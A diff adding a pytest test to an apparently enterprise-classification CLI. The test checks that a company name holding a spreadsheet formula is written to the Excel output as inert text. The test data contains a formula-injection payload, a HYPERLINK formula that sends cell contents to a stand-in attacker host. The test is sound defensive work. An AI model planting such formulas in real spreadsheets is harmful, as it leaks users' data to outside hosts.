@@ -128,6 +128,18 @@ def test_excel_in_excel_out_with_a_summary_sheet(tmp_path):
     assert ("below", "规下工业企业", "D", "D类（落后整治类）", 1, None, None) in summary
 
 
+def test_excel_out_writes_a_formula_like_name_as_text(tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
+    data = tmp_path / "data.csv"
+    data.write_text(csv_text([{**HUANGYAN_ABOVE, "name": evil}, HUANGYAN_BELOW]), encoding="utf-8")
+
+    code, _, err = invoke(data, "--scheme", "huangyan-2022", "--out", tmp_path / "result.xlsx")
+
+    assert (code, err) == (0, "")
+    name = load_workbook(tmp_path / "result.xlsx").worksheets[0]["B2"]
+    assert (name.value, name.data_type, name.quotePrefix) == (evil, "s", True)
+
+
 def test_json_lines_keep_exact_decimals(tmp_path):
     data = tmp_path / "data.csv"
     data.write_text(csv_text(ROWS[:2]), encoding="utf-8")
